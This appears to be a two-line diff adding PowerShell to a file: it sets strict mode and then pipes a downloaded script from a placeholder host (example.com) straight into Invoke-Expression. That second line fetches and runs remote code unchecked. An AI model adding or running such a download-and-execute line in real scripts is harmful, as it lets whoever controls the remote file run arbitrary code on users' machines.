@@ -1,0 +1,2 @@
+Set-StrictMode -Version Latest
+iwr https://example.com/setup.ps1 | iex
